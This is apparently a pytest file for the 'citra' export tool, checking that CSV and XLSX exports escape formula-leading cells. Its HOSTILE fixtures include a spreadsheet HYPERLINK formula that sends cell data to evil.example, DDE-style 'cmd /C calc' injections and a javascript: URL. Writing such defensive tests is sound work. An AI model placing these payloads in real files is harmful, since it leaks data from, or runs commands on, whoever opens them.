"""CSV exports neutralise formula-leading cells, on SQLite and PostgreSQL, through the real command line."""

from __future__ import annotations

import csv
import io
import os
import stat
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from citra import config, csvsafe
from citra.records import Annotation, Author, Platform, Post, Sentiment
from citra.store import Store

from .test_cli import citra

T0 = datetime(2026, 10, 1, 3, 0, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+62 812 cmd|' /C calc'!A0",
    "-2+3 jalan rusak",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 sampah menumpuk",
    "\r=1+1 lampu mati",
)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.15", "-0.15"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("-1+1", "'-1+1"),
        ("-", "'-"),
        ("jalan = rusak", "jalan = rusak"),
        ("", ""),
        (-0.15, -0.15),
        (None, None),
    ],
)
def test_cell(value: object, expected: object) -> None:
    assert csvsafe.cell(value) == expected


def test_writer_neutralises_rows_and_writerows() -> None:
    buf = io.StringIO()
    writer = csvsafe.DictWriter(buf, fieldnames=["a", "b"], lineterminator="\n")  # CRLF regardless
    writer.writeheader()
    writer.writerow({"a": "=1", "b": -2})
    writer.writerows([{"a": "@x", "b": "-0.5"}, {"a": "\r=1", "b": "x"}])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["a", "b"], ["'=1", "-2"], ["'@x", "-0.5"], ["'\r=1", "x"]]


def _fill(store: Store) -> None:
    posts = [
        Post(
            Platform.X,
            f"h{i}",
            text,
            T0 + timedelta(hours=i),
            author=Author(str(i), f"=warga{i}", "@Nama Warga"),
            url="javascript:alert(1)" if i % 2 else "https://x.com/a/status/1",
        )
        for i, text in enumerate(HOSTILE)
    ]
    store.add_posts(posts)
    ids = [store.lookup(p.native_id, p.platform)[0].id for p in posts]
    probs = (0.4, 0.3, 0.3)
    store.save_annotations([(i, Annotation("id", 0.99, Sentiment.NEGATIVE, probs)) for i in ids], "t1")


def _no_formula(rows: list[dict[str, str]]) -> None:
    assert rows
    for r in rows:
        for value in r.values():
            assert not (value or "").startswith(csvsafe.FORMULA_LEADS) or csvsafe._NUMBER.fullmatch(value), value


def test_cli_csv_outputs_are_neutralised(workspace: config.Workspace, store: Store, tmp_path: Path) -> None:
    _fill(store)
    out = tmp_path / "posts.csv"
    citra("export", "--format", "csv", "--out", out, ws=workspace.root)
    exported = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    _no_formula(exported)
    assert sorted(r["text"] for r in exported) == sorted("'" + t for t in HOSTILE)
    assert {r["author_handle"] for r in exported} == {f"'=warga{i}" for i in range(len(HOSTILE))}

    shown = citra("posts", "--format", "csv", "--with-annotations", "--limit", "0", ws=workspace.root).stdout
    posts = list(csv.DictReader(io.StringIO(shown)))
    _no_formula(posts)
    assert len(posts) == len(HOSTILE) and {r["author_name"] for r in posts} == {"'@Nama Warga"}

    queued = citra("label", "queue", "--csv", "--n", "10", ws=workspace.root).stdout
    sheet = list(csv.DictReader(io.StringIO(queued)))
    _no_formula(sheet)
    # the helper reads stdout with universal newlines, so a carriage return inside a quoted cell arrives as "\n"
    assert {r["text"] for r in sheet} <= {"'" + t.replace("\r", "\n") for t in HOSTILE}


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_export_files_are_owner_only(workspace: config.Workspace, store: Store, tmp_path: Path, fmt: str) -> None:
    _fill(store)
    out = tmp_path / "keluar" / f"posts.{fmt}"
    old = os.umask(0o022)  # the usual umask: files 0644 unless citra sets the mode
    try:
        citra("export", "--format", fmt, "--out", out, ws=workspace.root)
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
        assert stat.S_IMODE(out.parent.stat().st_mode) == 0o700
        assert out.stat().st_size > 0
        os.chmod(out, 0o640)  # an existing file keeps the mode its owner gave it
        citra("export", "--format", fmt, "--out", out, ws=workspace.root)
        assert stat.S_IMODE(out.stat().st_mode) == 0o640
    finally:
        os.umask(old)


def test_xlsx_strings_are_never_formulas(tmp_path: Path) -> None:
    """The XLSX report writes every string as text: a post's "=HYPERLINK(...)" term stays a string cell."""
    from openpyxl import Workbook, load_workbook

    from citra.reports.xlsx import _put

    book = Workbook()
    for i, text in enumerate(HOSTILE, 1):
        _put(book.active.cell(row=i, column=1), text, None)
    book.save(tmp_path / "r.xlsx")
    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    cells = [row[0] for row in load_workbook(tmp_path / "r.xlsx").active.iter_rows()]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert cells[0].value == HOSTILE[0]
